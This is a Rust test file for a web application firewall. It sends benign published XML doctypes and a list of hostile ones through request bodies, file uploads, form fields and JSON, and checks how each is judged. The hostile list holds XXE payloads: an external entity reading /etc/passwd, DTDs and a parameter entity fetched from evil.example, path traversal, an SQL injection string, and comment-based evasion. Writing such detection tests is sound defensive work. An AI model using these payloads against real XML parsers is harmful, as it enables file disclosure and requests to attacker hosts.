//! Definitions of XML: those of publishers pass in bodies, files and values, all others are denied there.

use std::sync::Arc;

use weir_waf::checks::Checks;
use weir_waf::inspection::{Mode, Options};

use super::{check, field, json, part, serde_json};
use crate::send::{Sent, judge_with, view};

const ILLUSTRATOR: &str = "<?xml version=\"1.0\"?>\n<!DOCTYPE svg PUBLIC \"-//W3C//DTD SVG 1.1//EN\" \"http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd\" [\n\t<!ENTITY ns_extend \"http://ns.adobe.com/Extensibility/1.0/\">\n\t<!ENTITY ns_svg \"http://www.w3.org/2000/svg\">\n]>\n<svg xmlns=\"&ns_svg;\" xmlns:x=\"&ns_extend;\"><g/></svg>";

const USUAL: [&str; 9] = [
    "<?xml version=\"1.0\"?><!DOCTYPE plist PUBLIC \"-//Apple//DTD PLIST 1.0//EN\" \"http://www.apple.com/DTDs/PropertyList-1.0.dtd\"><plist version=\"1.0\"><dict><key>a</key></dict></plist>",
    "<!DOCTYPE svg PUBLIC \"-//W3C//DTD SVG 1.1//EN\" \"http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd\"><svg xmlns=\"http://www.w3.org/2000/svg\"><path d=\"M0 0\"/></svg>",
    ILLUSTRATOR,
    "<!DOCTYPE html PUBLIC \"-//W3C//DTD XHTML 1.0 Strict//EN\" \"http://www.w3.org/TR/xhtml1/DTD/xhtml1-strict.dtd\"><html xmlns=\"http://www.w3.org/1999/xhtml\"><head><title>a</title></head><body><p>a&nbsp;b &eacute;</p></body></html>",
    "<?xml version=\"1.0\"?><!DOCTYPE cXML SYSTEM \"http://xml.cxml.org/schemas/cXML/1.2.014/cXML.dtd\"><cXML payloadID=\"1\"><Header/></cXML>",
    "<!DOCTYPE report PUBLIC \"-//JACOCO//DTD Report 1.1//EN\" \"report.dtd\"><report name=\"a\"/>",
    "<!DOCTYPE rdf:RDF [<!ENTITY owl \"http://www.w3.org/2002/07/owl#\" >]><rdf:RDF xmlns:rdf=\"http://www.w3.org/1999/02/22-rdf-syntax-ns#\"><a b=\"&owl;Class\"/></rdf:RDF>",
    "<!DOCTYPE a [<!ENTITY nbsp \"&#160;\">]><a>b&nbsp;c</a>",
    "<!DOCTYPE html PUBLIC \"-//W3C//DTD XHTML 1.0 Strict//EN\" \"DTD/xhtml1-strict.dtd\"><html><body><p>a</p></body></html>",
];

const HARMFUL: [&str; 13] = [
    "<!DOCTYPE a [<!ENTITY x SYSTEM \"file:///etc/passwd\">]><a>&x;</a>",
    "<!DOCTYPE a [<!ENTITY x SYSTEM \"http://www.w3.org/x\">]><a>&x;</a>",
    "<!DOCTYPE a [<!ENTITY x \"1' UNION SELECT a FROM b-- \">]><a>&x;</a>",
    "<!DOCTYPE a [<!ENTITY b \"http://www.w3.org/\"><!ENTITY c \"&b;&b;\">]><a>&c;</a>",
    "<!DOCTYPE a SYSTEM \"http://evil.example/x.dtd\"><a/>",
    "<!DOCTYPE a SYSTEM \"http://www.w3.org.evil.example/x.dtd\"><a/>",
    "<!DOCTYPE a SYSTEM \"../../etc/passwd\"><a/>",
    "<!DOCTYPE a SYSTEM \"uploads/x.dtd\"><a/>",
    "<!DOCTYPE a PUBLIC \"-//W3C//DTD SVG 1.1//EN\" \"http://evil.example/x.dtd\"><a/>",
    "<!DOCTYPE a PUBLIC \">\" \"http://evil.example/x.dtd\"><a/>",
    "<!-- <!DOCTYPE a SYSTEM \"http://www.w3.org/x\"> --><!DOCTYPE a SYSTEM \"http://evil.example/x.dtd\"><a/>",
    "<!-- <!DOCTYPE a PUBLIC \" --><!DOCTYPE a SYSTEM \"http://evil.example/x.dtd\"><a/>",
    "<!DOCTYPE a SYSTEM \"http://www.w3.org/x\" [<!ENTITY % p SYSTEM \"http://evil.example/x\">%p;]><a/>",
];

/// A document in every place: a body, a file, a field, a string of JSON.
fn everywhere(document: &str) -> Vec<(String, Sent)> {
    let named = |place: &str| format!("{place}: {document}");
    let bodies = ["text/xml", "application/xml", "image/svg+xml", "application/xhtml+xml"]
        .map(|it| (named(it), Sent::post("/", it, document)));
    let files = [
        ("a.xml", "text/xml"),
        ("a.svg", "image/svg+xml"),
        ("a.plist", ""),
        ("a.xhtml", ""),
        ("blob", "text/xml"),
    ]
    .map(|(name, media_type)| {
        let disposition = format!("name=\"f\"; filename=\"{name}\"");
        (named(name), part(&disposition, media_type, document.as_bytes()))
    });
    let values = [
        (named("field"), field(document)),
        (named("part"), part("name=\"x\"", "", document.as_bytes())),
        (
            named("JSON"),
            json(&format!("{{\"x\":{}}}", serde_json(&document.replace(['\n', '\t'], " ")))),
        ),
    ];
    bodies.into_iter().chain(files).chain(values).collect()
}

#[test]
fn definitions_are_judged_alike_in_bodies_files_and_values() {
    check(USUAL.iter().flat_map(|it| everywhere(it)), false);
    check(HARMFUL.iter().flat_map(|it| everywhere(it)), true);
}

#[test]
fn checks_let_published_definitions_pass() {
    let view = view(&crate::builtin(), &[("inbound_anomaly_score_threshold", "1000000")]);
    let checks = Some(Arc::new(Checks::default()));
    let options = Options { checks, ..Options::new(Mode::Block) };
    let found = |sent: &Sent| {
        let judged = judge_with(&view, &options, sent);
        judged.inspection.findings().iter().map(|it| it.check.name()).collect::<Vec<_>>()
    };
    for (name, sent) in USUAL.iter().flat_map(|it| everywhere(it)) {
        let expected: &[_] = if sent.target == b"/" { &["xml_doctype"] } else { &[] };
        assert_eq!(found(&sent), expected, "{name}");
    }
    for media_type in ["text/plain", "application/octet-stream", "application/x-plist"] {
        for document in USUAL {
            assert_eq!(found(&Sent::post("/", media_type, document)), [""; 0], "{document}");
        }
        for document in HARMFUL {
            let found = found(&Sent::post("/", media_type, document));
            assert!(found.contains(&"xml_entity"), "{found:?} {document}");
        }
    }
    for document in HARMFUL {
        let found = found(&Sent::post("/", "text/xml", document));
        assert!(found.contains(&"xml_entity"), "{found:?} {document}");
    }
}
